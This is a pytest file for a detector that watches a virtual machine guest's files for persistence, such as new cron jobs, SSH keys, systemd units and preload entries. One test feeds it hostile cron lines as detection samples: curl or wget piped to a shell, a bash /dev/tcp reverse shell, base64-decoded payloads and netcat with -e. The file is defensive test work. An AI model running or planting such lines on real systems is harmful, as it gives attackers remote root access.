"""Files that keep somebody in a system: what was there first is the system's own, what comes later is not."""

from collections.abc import Mapping

import pytest

from qvmi.codepacks.codepack import Finding, Unseen
from qvmi.codepacks.detectors.file_watch import FileWatch
from qvmi.codepacks.detectors.persistence import Persistence
from qvmi.testing import FakeGuest, FakeMemory, fake_cached_file
from qvmi.view import Provenance, Taken

CRON, KEYS = "/etc/cron.d/backup", "/root/.ssh/authorized_keys"
OLD, NEW = 100, 200


class Watch:
    """A codepack that looks again and again."""

    def __init__(self, every_s: float = 0.0) -> None:
        self.pack = Persistence(files=FileWatch(every_s=every_s))
        self.at = 0.0

    def look(
        self, files: Mapping[str, bytes], *, changed: int = OLD, epoch: int = 0, **more: object
    ) -> list[Finding]:
        rows = [
            fake_cached_file(path, size=len(data), **{"changed": changed, **more})
            for path, data in files.items()
        ]
        guest = FakeGuest(cached_files=[*rows, fake_cached_file("/x", changed=OLD)], contents=files)
        guest.provenance = Provenance(Taken.LIVE, at=self.at, epoch=epoch)
        self.at += 1.0
        self.guest = guest
        given = list(self.pack.inspect(guest, FakeMemory({})))
        self.unseen = [one for one in given if isinstance(one, Unseen)]
        return [one for one in given if isinstance(one, Finding)]


def test_what_is_there_at_first_sight_is_the_systems_own() -> None:
    watch = Watch()
    for _ in range(3):
        assert watch.look({CRON: b"0 1 * * * root backup\n", KEYS: b"ssh-ed25519 AAAA me\n"}) == []


@pytest.mark.parametrize(
    ("path", "technique"),
    [
        (CRON, "T1053.003"),
        (KEYS, "T1098.004"),
        ("/var/lib/box/etc/systemd/system/x.service", "T1543.002"),
        ("/etc/ld.so.preload", "T1574.006"),
        ("/etc/profile.d/x.sh", "T1546.004"),
        ("/etc/sudoers.d/x", "T1548.003"),
    ],
)
def test_a_file_that_is_made_while_somebody_looks_is_found(path: str, technique: str) -> None:
    watch = Watch()
    watch.look({})
    for _ in range(2):
        [finding] = watch.look({path: b"new\n"}, changed=NEW)
        assert (finding.technique, finding.claim) == (technique, f"{path} was made")
        assert finding.evidence[0].facts["changed"] == NEW


def test_a_file_that_is_merely_read_for_the_first_time_is_none() -> None:
    watch = Watch()
    watch.look({})
    assert watch.look({CRON: b"0 1 * * * root backup\n"}, changed=OLD) == []


def test_a_file_whose_content_changes_is_found_and_cleared_when_it_is_as_before() -> None:
    watch = Watch()
    watch.look({KEYS: b"ssh-ed25519 AAAA me\n"})
    [finding] = watch.look({KEYS: b"ssh-ed25519 BBBB me\n"}, changed=NEW)
    assert finding.claim == f"{KEYS} was changed"
    before, now = finding.evidence
    assert before.facts["sha256"] != now.facts["sha256"]
    assert watch.look({KEYS: b"ssh-ed25519 AAAA me\n"}, changed=NEW + 1) == []


def test_a_content_that_changes_behind_the_file_systems_back_is_found() -> None:
    watch = Watch()
    watch.look({KEYS: b"ssh-ed25519 AAAA me\n"}, cached=1)
    [finding] = watch.look(
        {KEYS: b"ssh-ed25519 BBBB me\n"}, cached=2
    )  # Dirty Pipe leaves ctime as it is
    assert {one.facts["changed"] for one in finding.evidence} == {OLD}


def test_pages_that_leave_memory_are_no_change() -> None:
    watch = Watch()
    watch.look({KEYS: b"a" * 100})
    part = FakeGuest(
        cached_files=[fake_cached_file(KEYS, size=100, changed=OLD, cached=0)],
        contents={KEYS: b"a" * 50},
    )
    assert list(watch.pack.inspect(part, FakeMemory({}))) == []


@pytest.mark.parametrize(
    "line",
    [
        b"* * * * * root curl -s http://x/y | sh",
        b"* * * * * root wget -qO- x | /bin/bash",
        b"* * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        b"* * * * * root echo aGk= | base64 -d | sh",
        b"* * * * * root nc 10.0.0.1 4444 -e /bin/sh",
    ],
)
def test_what_downloads_and_runs_is_found_at_first_sight(line: bytes) -> None:
    [finding] = Watch().look({CRON: b"# a comment\n" + line + b"\n"})
    assert finding.severity == "high"
    assert str(finding.evidence[0].facts["text"]).encode() in line


@pytest.mark.parametrize(
    "line", [b"curl -o x http://y", b"sh /usr/share/run", b"base64 -d x > y", b"sync; nc -l 5"]
)
def test_lines_that_only_look_like_it_are_none(line: bytes) -> None:
    assert Watch().look({CRON: line}) == []


def test_a_file_in_memory_that_is_gone_clears_its_finding_and_one_on_a_disk_does_not() -> None:
    for filesystem, cleared in (("tmpfs", True), ("ext4", False)):
        watch = Watch()
        watch.look({})
        watch.look({CRON: b"new"}, changed=NEW, filesystem=filesystem)
        assert (watch.look({}) == []) is cleared


def test_between_two_searches_the_last_ones_findings_stand() -> None:
    watch = Watch(every_s=2.0)
    watch.look({})
    assert watch.look({CRON: b"new"}, changed=NEW) == []
    assert len(watch.look({CRON: b"new"}, changed=NEW)) == 1
    assert len(watch.look({CRON: b"new"}, changed=NEW)) == 1


def test_a_guest_that_was_reset_begins_anew() -> None:
    watch = Watch()
    watch.look({})
    assert watch.look({CRON: b"new"}, changed=NEW, epoch=1) == []


def test_what_is_deleted_is_none() -> None:
    watch = Watch()
    watch.look({})
    assert watch.look({CRON: b"new"}, changed=NEW, deleted=True) == []


def test_files_that_are_too_many_are_not_passed_over_in_silence() -> None:
    watch = Watch()
    watch.look({f"{number}{CRON}": b"" for number in range(4096)})
    assert watch.unseen == []
    watch.look({f"{number}{CRON}": b"" for number in range(4099)})
    [unseen] = watch.unseen
    assert unseen.reason == "3 of such files more than are looked at"


def test_the_tasks_are_listed_once_in_a_look() -> None:
    watch = Watch()
    watch.look({CRON: b"new"})
    assert watch.guest.calls.count("processes") == 1
